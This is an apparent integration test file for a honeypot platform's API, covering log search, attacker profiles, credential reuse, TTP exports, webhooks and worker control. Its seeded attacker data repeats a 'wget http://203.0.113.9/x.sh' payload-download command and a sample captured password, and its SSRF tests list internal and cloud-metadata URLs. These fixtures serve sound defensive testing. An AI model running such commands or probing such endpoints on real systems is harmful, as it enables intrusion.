// The read routes over seeded data (written with the repositories, as the pipeline workers do),
// the log search syntax, webhooks, and workers with their control topic on the bus.
import { apiEnv, startApi, waitFor, type RunningApi } from './harness.ts';
const env = apiEnv({ DECNET_HEALTH_INTERVAL_MS: '1000' });
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import type { Database } from '../../src/db/types.ts';
import type { LocalBusConnection } from '../../src/bus/local.ts';

let api: RunningApi;
let db: Database;
let bus: LocalBusConnection;
const ids: Record<string, string> = {};

const IPS = ['198.51.100.1', '198.51.100.2', '198.51.100.3'];

async function seed(): Promise<void> {
  const { appendLogs } = await import('../../src/db/logs/repo.ts');
  const events = [];
  for (let i = 0; i < 30; i++) {
    const ip = IPS[i % 3];
    const decky = i % 2 === 0 ? 'web-01' : 'db-01';
    const service = i % 3 === 0 ? 'http' : 'ssh';
    const event = i % 5 === 0 ? 'command' : i % 2 === 0 ? 'auth_attempt' : 'connect';
    const fields: Record<string, unknown> = event === 'auth_attempt' ? { username: i % 4 === 0 ? 'root' : 'admin' } : event === 'command' ? { command: 'wget http://203.0.113.9/x.sh' } : {};
    events.push({
      ts: new Date(Date.UTC(2025, 0, 1, 0, i)).toISOString(),
      decky,
      service,
      event_type: event,
      attacker_ip: ip,
      fields,
      raw_line: `<134>1 2025-01-01T00:${String(i).padStart(2, '0')}:00Z ${decky} ${service} - ${event} [x src_ip="${ip}"] ${event === 'command' ? 'wget http://203.0.113.9/x.sh' : `${event} from ${ip}`}`,
    });
  }
  await appendLogs(db, events);
  const { upsertAttacker } = await import('../../src/db/attackers/repo.ts');
  for (const [i, ip] of IPS.entries()) {
    const r = await upsertAttacker(db, {
      ip,
      first_seen: '2025-01-01T00:00:00Z',
      last_seen: `2025-01-01T0${i}:00:00Z`,
      event_count: 10 + i,
      services: ['ssh', 'http'],
      deckies: ['web-01', 'db-01'],
      commands: [
        { service: 'ssh', decky: 'web-01', command: 'uname -a', timestamp: '2025-01-01T00:01:00Z' },
        { service: 'ssh', decky: 'web-01', command: 'wget http://203.0.113.9/x.sh', timestamp: '2025-01-01T00:02:00Z' },
        { service: 'telnet', decky: 'db-01', command: 'id', timestamp: '2025-01-01T00:03:00Z' },
      ],
      country_code: 'NL',
    });
    ids[ip] = r.uuid;
  }
  const { upsertCredential, findReuseCandidates, upsertCredentialReuse } = await import('../../src/db/credentials/repo.ts');
  const secret = Buffer.from('hunter2hunter2').toString('base64');
  await upsertCredential(db, { attacker_ip: IPS[0], decky_name: 'web-01', service: 'ssh', principal: 'root', secret_kind: 'plaintext', secret_b64: secret, outcome: 'failure' });
  await upsertCredential(db, { attacker_ip: IPS[1], decky_name: 'db-01', service: 'ssh', principal: 'root', secret_kind: 'plaintext', secret_b64: secret, outcome: 'failure' });
  await upsertCredential(db, { attacker_ip: IPS[1], decky_name: 'db-01', service: 'mysql', principal: 'sa', secret_kind: 'plaintext', secret_b64: Buffer.from('other secret').toString('base64') });
  for (const f of await findReuseCandidates(db)) {
    const r = await upsertCredentialReuse(db, f);
    if (r) ids.reuse = r.row.id;
  }
  const { addBounties } = await import('../../src/db/bounty/repo.ts');
  await addBounties(db, [
    { ts: '2025-01-01T00:00:00Z', decky: 'web-01', service: 'https', attacker_ip: IPS[0], bounty_type: 'fingerprint', payload: { fingerprint_type: 'ja3', value: 'abc123' } },
    { ts: '2025-01-01T00:01:00Z', decky: 'web-01', service: 'ssh', attacker_ip: IPS[1], bounty_type: 'artifact', payload: { file: 'x.sh' } },
  ]);
  const { insertTags } = await import('../../src/db/ttp/repo.ts');
  await insertTags(db, [
    {
      source_kind: 'command',
      source_id: 'log:5',
      rule_id: 'unix-shell-download',
      rule_version: 1,
      technique_id: 'T1059',
      sub_technique_id: 'T1059.004',
      attacker_uuid: ids[IPS[0]],
      decky_id: 'web-01',
      tactic: 'execution',
      confidence: 0.9,
      evidence: { event: 'command', ts: '2025-01-01T00:05:00.000Z', text: 'wget http://203.0.113.9/x.sh', fields: {}, key: 'k1', attacker_ip: IPS[0], service: 'ssh' },
      created_at: '2025-01-01T00:05:00Z',
    },
    {
      source_kind: 'event',
      source_id: 'log:6',
      rule_id: 'ssh-brute-force',
      rule_version: 1,
      technique_id: 'T1110',
      attacker_uuid: ids[IPS[1]],
      decky_id: 'db-01',
      tactic: 'credential-access',
      confidence: 0.8,
      evidence: { event: 'auth_attempt', ts: '2025-01-01T00:06:00.000Z', text: 'many logins', fields: {}, key: 'k2' },
      created_at: '2025-01-01T00:06:00Z',
    },
  ]);
  const { createIdentity, setAttackerIdentity } = await import('../../src/db/identities/repo.ts');
  const { createCampaign, setIdentityCampaign } = await import('../../src/db/campaigns/repo.ts');
  ids.identity = await createIdentity(db, { first_seen_at: '2025-01-01T00:00:00Z', last_seen_at: '2025-01-01T01:00:00Z' });
  await setAttackerIdentity(db, ids[IPS[0]], ids.identity);
  await setAttackerIdentity(db, ids[IPS[1]], ids.identity);
  ids.campaign = await createCampaign(db, { first_seen_at: '2025-01-01T00:00:00Z', last_seen_at: '2025-01-01T01:00:00Z' });
  await setIdentityCampaign(db, ids.identity, ids.campaign);
}

before(async () => {
  api = await startApi();
  const { sharedDatabase } = await import('../../src/db/connection.ts');
  db = await sharedDatabase();
  const { openLocalBus } = await import('../../src/bus/local.ts');
  bus = openLocalBus();
  await seed();
});

after(async () => {
  await bus.close();
  await api.stop();
  env.cleanup();
});

const get = (path: string) => api.client.get(path, api.viewer);

async function total(search: string, extra = ''): Promise<number> {
  const r = await get(`/api/v1/logs?search=${encodeURIComponent(search)}${extra}`);
  assert.equal(r.status, 200, `${search}: ${r.text}`);
  return r.body.total;
}

test('logs: newest first, paging, and every form of the search syntax', async () => {
  const all = await get('/api/v1/logs?limit=7');
  assert.equal(all.body.total, 30);
  assert.equal(all.body.data.length, 7);
  const idsDesc = all.body.data.map((r: { id: number }) => r.id);
  assert.deepEqual(idsDesc, [...idsDesc].sort((a, b) => b - a));
  const second = await get('/api/v1/logs?limit=7&offset=7');
  assert.equal(second.body.data[0].id, idsDesc[6] - 1);
  assert.equal(typeof all.body.data[0].fields, 'object', 'fields is an object, not a JSON string');

  assert.equal(await total('decky:web-01'), 15);
  assert.equal(await total('service:http'), 10);
  assert.equal(await total('event:command'), 6);
  assert.equal(await total('attacker:198.51.100.2'), 10);
  assert.equal(await total('attacker_ip:198.51.100.2 decky:db-01'), 5);
  assert.equal(await total('username:root'), 6, 'a field term');
  assert.equal(await total('WGET'), 6, 'a bare word ignores case');
  assert.equal(await total('"from 198.51.100.3"'), 8, 'quoted text with a space');
  assert.equal(await total('command:"wget http://203.0.113.9/x.sh"'), 6, 'a quoted field value');
  assert.equal(await total('decky:nope'), 0);
  assert.equal(await total('decky:web-01', '&start_time=2025-01-01T00:10:00Z&end_time=2025-01-01T00:19:59Z'), 5, 'time range');
  for (const bad of ['"unclosed', 'decky:', 'x'.repeat(513)]) {
    const r = await get(`/api/v1/logs?search=${encodeURIComponent(bad)}`);
    assert.equal(r.status, 422, bad);
    assert.equal(typeof r.body.detail, 'string');
  }
  assert.equal((await get('/api/v1/logs?start_time=yesterday')).status, 422);
  // the "not set" spellings a browser sends leave a filter unset
  assert.equal((await get('/api/v1/logs?search=null&start_time=')).body.total, 30);

  const hist = await get('/api/v1/logs/histogram?interval_minutes=10&search=service:ssh');
  assert.equal(hist.status, 200);
  assert.deepEqual(hist.body.map((b: { count: number }) => b.count), [6, 7, 7]);
  assert.equal(hist.body[0].time, '2025-01-01T00:00:00.000Z');

  const stats = await get('/api/v1/stats');
  assert.equal(stats.body.total_logs, 30);
  assert.equal(stats.body.unique_attackers, 3);
  assert.equal(stats.body.attacker_profiles, 3);
});

test('attackers: list, filters, detail with techniques, timeline, commands, credentials', async () => {
  const list = await get('/api/v1/attackers?sort_by=recent');
  assert.equal(list.body.total, 3);
  assert.equal(list.body.data[0].ip, IPS[2], 'most recently seen first');
  assert.equal(list.body.data[0].commands, undefined, 'the list leaves out the bulky command lists');
  assert.equal(list.body.data[0].command_count, 3);
  assert.equal((await get('/api/v1/attackers?search=198.51.100.2')).body.total, 1);
  assert.equal((await get('/api/v1/attackers?sort_by=loudest')).status, 422);
  const a = ids[IPS[0]];
  const detail = await get(`/api/v1/attackers/${a}`);
  assert.equal(detail.status, 200);
  assert.equal(detail.body.ip, IPS[0]);
  assert.equal(detail.body.techniques[0].sub_technique_id, 'T1059.004');
  assert.equal(detail.body.identity_id, ids.identity);
  assert.equal((await get('/api/v1/attackers/01900000-0000-7000-8000-000000000000')).status, 404);

  const events = await get(`/api/v1/attackers/${a}/events?limit=3&event_type=command`);
  assert.equal(events.body.total, 2);
  assert.ok(events.body.data.every((e: { event_type: string; attacker_ip: string }) => e.event_type === 'command' && e.attacker_ip === IPS[0]));
  const cmds = await get(`/api/v1/attackers/${a}/commands?service=ssh`);
  assert.deepEqual(cmds.body.data.map((c: { command: string }) => c.command), ['wget http://203.0.113.9/x.sh', 'uname -a']);
  assert.equal((await get(`/api/v1/attackers/${a}/commands?limit=201`)).status, 422, 'commands page at most 200');
  const creds = await get(`/api/v1/attackers/${a}/credentials`);
  assert.equal(creds.body.total, 1);
  assert.equal(creds.body.data[0].secret_printable, 'hunter2hunter2');
  const tech = await get(`/api/v1/attackers/${a}/techniques`);
  assert.equal(tech.body[0].technique_id, 'T1059');
});

test('credentials, reuse and bounty', async () => {
  const creds = await get('/api/v1/credentials?service=ssh');
  assert.equal(creds.body.total, 2);
  assert.equal((await get('/api/v1/credentials?attacker_ip=198.51.100.2')).body.total, 2);
  assert.equal((await get('/api/v1/credentials?search=hunter2')).body.total, 2);
  const reuse = await get('/api/v1/credential-reuse');
  assert.equal(reuse.body.total, 1);
  assert.equal(reuse.body.data[0].target_count, 2);
  const one = await get(`/api/v1/credential-reuse/${ids.reuse}`);
  assert.deepEqual(one.body.attacker_ips, [IPS[0], IPS[1]]);
  assert.equal((await get('/api/v1/credential-reuse/01900000-0000-7000-8000-000000000000')).status, 404);
  const fp = await get('/api/v1/bounty?bounty_type=fingerprint');
  assert.equal(fp.body.total, 1);
  assert.equal(fp.body.data[0].payload.value, 'abc123');
  assert.equal((await get('/api/v1/bounty?search=x.sh')).body.total, 1);
});

test('identities and campaigns', async () => {
  const list = await get('/api/v1/identities');
  assert.equal(list.body.total, 1);
  const one = await get(`/api/v1/identities/${ids.identity}`);
  assert.deepEqual(one.body.attackers.map((a: { ip: string }) => a.ip).sort(), [IPS[0], IPS[1]]);
  assert.equal((await get(`/api/v1/identities?campaign_id=${ids.campaign}`)).body.total, 1);
  const c = await get(`/api/v1/campaigns/${ids.campaign}`);
  assert.equal(c.body.identities.total, 1);
  assert.equal((await get('/api/v1/campaigns')).body.total, 1);
});

test('ttp: technique summary with names, tags by technique, rules, STIX and Navigator exports', async () => {
  const t = await get('/api/v1/ttp/techniques');
  assert.equal(t.status, 200);
  const shell = t.body.find((r: { sub_technique_id: string | null }) => r.sub_technique_id === 'T1059.004');
  assert.equal(shell.technique_name, 'Unix Shell');
  assert.match(shell.mitre_url, /attack\.mitre\.org/);
  const tags = await get('/api/v1/ttp/tags?technique_id=T1110');
  assert.equal(tags.body.total, 1);
  assert.equal(tags.body.data[0].rule_id, 'ssh-brute-force');
  assert.equal((await get('/api/v1/ttp/tags?technique_id=T1059')).body.total, 1, 'a technique matches its sub-techniques');
  assert.equal((await get('/api/v1/ttp/tags?technique_id=1059')).status, 422);
  const rules = await get('/api/v1/ttp/rules');
  assert.ok(rules.body.rules.length > 10, 'the shipped rule set');
  assert.ok(rules.body.rules.every((r: { technique: string }) => /^T\d{4}/.test(r.technique)));

  const stix = await get('/api/v1/ttp/export/stix');
  assert.equal(stix.status, 200);
  assert.match(stix.headers.get('content-disposition') ?? '', /attachment; filename="decnet-fleet-stix-/);
  assert.equal(stix.body.type, 'bundle');
  assert.equal(stix.headers.get('x-decnet-tags'), '2', 'the tag without an address in its evidence uses the attacker row');
  assert.ok(stix.body.objects.some((o: { type: string }) => o.type === 'sighting'));
  const one = await get(`/api/v1/ttp/export/navigator?attacker_uuid=${ids[IPS[0]]}`);
  assert.equal(one.body.domain, 'enterprise-attack');
  assert.deepEqual(one.body.techniques.filter((x: { score?: number }) => x.score).map((x: { techniqueID: string }) => x.techniqueID), ['T1059.004']);
  assert.equal((await get('/api/v1/ttp/export/stix?attacker_uuid=01900000-0000-7000-8000-000000000000')).status, 404);
});

test('deckies: the default plan with live state', async () => {
  const r = await get('/api/v1/deckies');
  assert.equal(r.status, 200);
  assert.equal(r.body.source, 'default');
  assert.ok(r.body.deckies.length > 0);
  assert.equal(r.body.host.running, false);
  assert.equal(r.body.host.event_log, undefined, 'no server paths for viewers');
  assert.equal(r.body.plan_path, undefined);
  assert.match((await api.client.get('/api/v1/deckies', api.admin)).body.plan_path, /plan\.json$/);
  const name = r.body.deckies[0].name;
  assert.equal((await get(`/api/v1/deckies/${name}`)).body.name, name);
  assert.equal((await get('/api/v1/deckies/not-there')).status, 404);
});

test('webhooks: secret shown once, SSRF guard, duplicate names, pattern rules, change announced on the bus', async () => {
  const c = api.client;
  const announced = bus.member('test-webhook-watch').subscribe('system.webhook.subscriptions_changed', { queueSize: 16 });
  const body = { name: 'soc', url: 'https://soc.example.com/hook', simple_events: ['AttackerDetail'], topic_patterns: ['ttp.tagged', 'attacker.>'] };
  const created = await c.call('POST', '/api/v1/webhooks', { token: api.admin, body });
  assert.equal(created.status, 201, created.text);
  assert.match(created.body.secret, /^[A-Za-z0-9_-]{32,}$/);
  assert.deepEqual(created.body.topic_patterns, ['attacker.>', 'ttp.tagged'], 'groups expanded, duplicates removed');
  const note = await announced.next();
  assert.equal(note?.payload.action, 'created');
  const listed = await c.get('/api/v1/webhooks', api.admin);
  assert.equal(listed.body.length, 1);
  assert.equal(listed.body[0].secret, undefined, 'the secret is never shown again');
  assert.equal((await c.get(`/api/v1/webhooks/${created.body.uuid}`, api.admin)).body.secret, undefined);

  assert.equal((await c.call('POST', '/api/v1/webhooks', { token: api.admin, body })).status, 409);
  for (const url of ['http://127.0.0.1:9/x', 'http://localhost/x', 'http://169.254.169.254/latest', 'http://10.1.2.3/', 'http://[::1]/', 'https://user:pw@example.com/']) {
    const r = await c.call('POST', '/api/v1/webhooks', { token: api.admin, body: { name: `x-${url.length}`, url, topic_patterns: ['attacker.>'] } });
    assert.equal(r.status, 422, url);
  }
  assert.equal((await c.call('POST', '/api/v1/webhooks', { token: api.admin, body: { name: 'none', url: 'https://example.com/' } })).status, 422, 'no events');
  assert.equal((await c.call('POST', '/api/v1/webhooks', { token: api.admin, body: { name: 'bad', url: 'https://example.com/', topic_patterns: ['a.>.b'] } })).status, 422);
  assert.equal((await c.call('POST', '/api/v1/webhooks', { token: api.admin, body: { name: 'ftp', url: 'ftp://example.com/', topic_patterns: ['a.b'] } })).status, 422);

  const plain = await c.call('PATCH', `/api/v1/webhooks/${created.body.uuid}`, { token: api.admin, body: { url: 'http://soc.example.com/hook', enabled: false } });
  assert.equal(plain.status, 200);
  assert.equal(plain.body.enabled, false);
  assert.match(plain.body.warnings[0], /unencrypted/);
  assert.equal((await c.call('PATCH', `/api/v1/webhooks/${created.body.uuid}`, { token: api.admin, body: { topic_patterns: [] } })).status, 422);
  assert.equal((await c.call('PATCH', '/api/v1/webhooks/01900000-0000-7000-8000-000000000000', { token: api.admin, body: { enabled: true } })).status, 404);
  assert.equal((await c.call('POST', `/api/v1/webhooks/${created.body.uuid}/test`, { token: api.admin })).body.delivered, false, 'soc.example.com is not reachable from here');
  assert.equal((await c.call('DELETE', `/api/v1/webhooks/${created.body.uuid}`, { token: api.admin })).status, 204);
  assert.equal((await c.get('/api/v1/webhooks', api.admin)).body.length, 0);
  announced.close();
});

test('workers: heartbeats from the bus and host state; control requests go out on system.<w>.control', async () => {
  const fake = bus.member('profiler');
  fake.publish('system.profiler.health', { worker: 'profiler', host: 'intel', hostname: 'h', pid: 4242, ts: Date.now(), uptime_s: 5, restarts: 1, state: 'running', host_pss_kb: 51200, processed: 17 }, 'health');
  const view = await waitFor(async () => {
    const r = await get('/api/v1/workers');
    const w = r.body.workers.find((x: { name: string }) => x.name === 'profiler');
    return w?.status === 'ok' ? r.body : undefined;
  }, 5000, 'the profiler heartbeat');
  const profiler = view.workers.find((x: { name: string }) => x.name === 'profiler');
  assert.equal(profiler.host_pss_kb, 51200);
  assert.equal(profiler.restarts, 1);
  assert.deepEqual(profiler.extra, { processed: 17 });
  const self = view.workers.find((x: { name: string }) => x.name === 'api');
  assert.equal(self.state, 'running', 'the api itself, from its host state file');
  assert.equal(self.pid, process.pid);
  assert.ok(view.processes.some((p: { name: string; pss_kb: number | null }) => p.name === 'api' && (p.pss_kb ?? 0) > 0), 'process PSS from the host state file');
  assert.equal(view.workers.find((x: { name: string }) => x.name === 'webhook').status, 'unknown');
  assert.equal(view.bus_connected, true);

  const control = bus.member('control-watch').subscribe('system.profiler.control', { queueSize: 4 });
  const r = await api.client.call('POST', '/api/v1/workers/profiler/restart', { token: api.admin });
  assert.equal(r.status, 202);
  assert.deepEqual(r.body, { accepted: true, worker: 'profiler', action: 'restart' });
  const msg = await control.next();
  assert.equal(msg?.payload.action, 'restart');
  assert.equal(msg?.payload.requested_by, 'admin');
  control.close();
  assert.equal((await api.client.call('POST', '/api/v1/workers/no-such-worker/stop', { token: api.admin })).status, 404);
  assert.equal((await api.client.call('POST', '/api/v1/workers/profiler/explode', { token: api.admin })).status, 422);
});

test('config: no secrets for anyone; admins see paths and users', async () => {
  const v = await get('/api/v1/config');
  assert.equal(v.body.role, 'viewer');
  assert.equal(v.body.users, undefined);
  assert.equal(v.body.database, undefined);
  const a = await api.client.get('/api/v1/config', api.admin);
  assert.equal(a.body.database.dialect, 'sqlite');
  assert.ok(a.body.users.some((u: { username: string }) => u.username === 'viewer'));
  const text = JSON.stringify(a.body);
  const { readFileSync } = await import('node:fs');
  const { join } = await import('node:path');
  const secret = readFileSync(join(process.env.DECNET_DATA_DIR!, 'jwt.secret'), 'utf8').trim();
  assert.ok(!text.includes(secret), 'the signing key is not in the configuration view');
  assert.ok(!/password_hash|scrypt\$/.test(text));
});

test('webhooks: a test delivery reaches a local receiver (internal receivers allowed explicitly), signed with the secret', async () => {
  const { createServer } = await import('node:http');
  const { verifyWebhook, SIGNATURE_HEADER, TIMESTAMP_HEADER } = await import('../../src/notify/webhook-sign.ts');
  const got: { headers: Record<string, string | string[] | undefined>; body: string }[] = [];
  const receiver = createServer((req, res) => {
    let body = '';
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      got.push({ headers: req.headers, body });
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
  const port = (receiver.address() as { port: number }).port;
  try {
    const c = api.client;
    const url = `http://127.0.0.1:${port}/hook`;
    const refused = await c.call('POST', '/api/v1/webhooks', { token: api.admin, body: { name: 'local', url, topic_patterns: ['attacker.>'] } });
    assert.equal(refused.status, 422, 'a loopback receiver needs allow_private');
    assert.match(refused.body.detail, /loopback|this machine|allow/);
    const made = await c.call('POST', '/api/v1/webhooks', { token: api.admin, body: { name: 'local', url, topic_patterns: ['attacker.>'], allow_private: true } });
    assert.equal(made.status, 201, made.text);
    const sent = await c.call('POST', `/api/v1/webhooks/${made.body.uuid}/test`, { token: api.admin });
    assert.equal(sent.status, 200);
    assert.equal(sent.body.delivered, true, JSON.stringify(sent.body));
    assert.equal(sent.body.status_code, 204);
    assert.equal(got.length, 1);
    const h = got[0].headers;
    assert.ok(verifyWebhook(made.body.secret, h[TIMESTAMP_HEADER] as string, got[0].body, h[SIGNATURE_HEADER] as string), 'the signature checks out with the secret shown at creation');
    assert.equal(JSON.parse(got[0].body).topic, 'test.ping');
    assert.equal((await c.call('POST', `/api/v1/webhooks/${made.body.uuid}/test`, { token: api.viewer })).status, 403);
    await c.call('DELETE', `/api/v1/webhooks/${made.body.uuid}`, { token: api.admin });
  } finally {
    receiver.close();
  }
});
